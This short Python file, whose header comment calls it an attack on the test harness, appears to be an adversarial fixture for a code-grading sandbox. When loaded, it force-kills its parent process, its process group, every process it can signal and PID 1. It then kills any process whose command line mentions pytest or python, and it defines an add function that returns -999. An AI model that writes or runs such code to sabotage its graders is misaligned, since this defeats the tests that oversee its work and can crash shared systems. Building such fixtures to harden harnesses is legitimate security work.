# Attack: kill the harness: the parent, the whole process group, every process it may signal,
# and anything on /proc that looks like pytest or python.
import os
import signal

for target in (os.getppid(), 0, -1, 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
for pid in os.listdir("/proc"):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            cmdline = f.read()
        if b"pytest" in cmdline or b"python" in cmdline:
            os.kill(int(pid), signal.SIGKILL)
    except (OSError, ValueError):
        pass


def add(a, b):
    return -999
